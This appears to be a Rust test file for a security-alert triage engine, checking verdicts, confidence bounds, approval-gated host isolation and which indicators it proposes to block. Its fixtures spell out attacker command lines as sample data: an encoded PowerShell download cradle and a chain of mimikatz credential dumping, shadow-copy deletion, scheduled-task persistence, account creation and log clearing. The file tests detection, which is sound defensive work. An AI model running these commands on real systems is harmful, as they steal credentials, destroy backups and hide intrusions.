use aluskort_core::entity::{Host, ProcessEntity};
use aluskort_core::{AlertId, AlertSource, TenantId};
use chrono::Utc;
use serde_json::json;

use super::*;

fn alert(title: &str, severity: Severity, tactics: &[&str]) -> CanonicalAlert {
    CanonicalAlert {
        alert_id: AlertId::parse("a-1").expect("id"),
        source: AlertSource::Sentinel,
        timestamp: Utc::now(),
        title: title.to_owned(),
        description: String::new(),
        severity,
        tactics: tactics.iter().map(|t| (*t).to_owned()).collect(),
        techniques: vec![],
        entities_raw: String::new(),
        product: String::new(),
        tenant_id: TenantId::default_tenant(),
        raw_payload: json!({}),
    }
}

fn host_with_command(command: &str) -> AlertEntities {
    AlertEntities {
        hosts: vec![Host { hostname: Some("ws01".into()), ..Default::default() }],
        processes: vec![ProcessEntity { command_line: Some(command.into()), ..Default::default() }],
        ..Default::default()
    }
}

#[test]
fn encoded_powershell_download_is_a_true_positive_with_containment_behind_approval() {
    let alert = alert("Suspicious PowerShell", Severity::Medium, &["Execution"]);
    let entities =
        host_with_command("powershell.exe -ExecutionPolicy Bypass -enc SQBFAFgA; (New-Object Net.WebClient).DownloadString('http://x')");
    let verdict =
        reason(&ReasoningInput { alert: &alert, entities: &entities, iocs: &[], incident: None, ti_matches: &[], facts: Facts::default() });
    assert_eq!(verdict.classification, Classification::TruePositive);
    assert!(verdict.confidence >= CONTAINMENT_THRESHOLD, "{verdict:?}");
    assert!(verdict.techniques.contains(&"T1059.001".to_owned()));
    assert!(verdict.techniques.contains(&"T1105".to_owned()));
    let isolate = verdict.recommended_actions.iter().find(|a| a.action == ActionKind::IsolateHost).expect("isolation proposed");
    assert!(isolate.requires_approval, "FR-RSP-002");
    assert!(verdict.reasoning.iter().any(|line| line.contains("encoded PowerShell")));
}

#[test]
fn weak_evidence_needs_investigation_and_is_never_dismissed() {
    let alert = alert("Unusual sign-in", Severity::Low, &[]);
    let entities = AlertEntities::default();
    let verdict =
        reason(&ReasoningInput { alert: &alert, entities: &entities, iocs: &[], incident: None, ti_matches: &[], facts: Facts::default() });
    assert_eq!(verdict.classification, Classification::NeedsInvestigation);
    assert!(!verdict.has_destructive_action());
}

#[test]
fn soc_operational_alerts_are_benign_true_positives() {
    let alert = alert("Automated investigation started manually", Severity::Informational, &[]);
    let verdict = reason(&ReasoningInput {
        alert: &alert,
        entities: &AlertEntities::default(),
        iocs: &[],
        incident: None,
        ti_matches: &[],
        facts: Facts::default(),
    });
    assert_eq!(verdict.classification, Classification::BenignTruePositive);
    assert!(!verdict.has_destructive_action());
}

#[test]
fn adopts_the_siem_recorded_determination() {
    let mut alert = alert("Anything", Severity::Low, &[]);
    alert.raw_payload = json!({"ExtendedProperties": "{\"Classification\":\"FalsePositive\"}"});
    let verdict = reason(&ReasoningInput {
        alert: &alert,
        entities: &AlertEntities::default(),
        iocs: &[],
        incident: None,
        ti_matches: &[],
        facts: Facts::default(),
    });
    assert_eq!(verdict.classification, Classification::FalsePositive);
    assert!(verdict.confidence >= 0.9);
}

#[test]
fn confidence_stays_within_zero_and_one() {
    for severity in Severity::ALL {
        let alert = alert("x", severity, &["CredentialAccess", "Impact"]);
        let entities = host_with_command("mimikatz sekurlsa vssadmin delete shadows -enc x schtasks /create net user /add wevtutil cl");
        let verdict = reason(&ReasoningInput {
            alert: &alert,
            entities: &entities,
            iocs: &[],
            incident: None,
            ti_matches: &[],
            facts: Facts::default(),
        });
        assert!((0.0..=1.0).contains(&verdict.confidence), "{severity}: {}", verdict.confidence);
    }
}

#[test]
fn never_proposes_blocking_vendor_or_own_domains() {
    use aluskort_core::entity::{Account, DnsEntity, UrlEntity};
    let alert = alert("Phishing link clicked", Severity::High, &["InitialAccess", "CredentialAccess"]);
    let entities = AlertEntities {
        accounts: vec![Account { upn: Some("ann@corp.example".into()), ..Default::default() }],
        urls: vec![
            UrlEntity { url: "https://security.microsoft.com/alerts".into() },
            UrlEntity { url: "https://login.corp.example/sso".into() },
            UrlEntity { url: "https://evil-login.example.net/owa".into() },
        ],
        dns: vec![DnsEntity { domain: "x.blob.core.windows.net".into(), resolved_ips: vec![] }],
        ..Default::default()
    };
    let verdict =
        reason(&ReasoningInput { alert: &alert, entities: &entities, iocs: &[], incident: None, ti_matches: &[], facts: Facts::default() });
    let blocked: Vec<&str> =
        verdict.recommended_actions.iter().filter(|a| a.action == ActionKind::BlockIndicator).map(|a| a.target.as_str()).collect();
    assert_eq!(blocked, vec!["https://evil-login.example.net/owa"]);
}
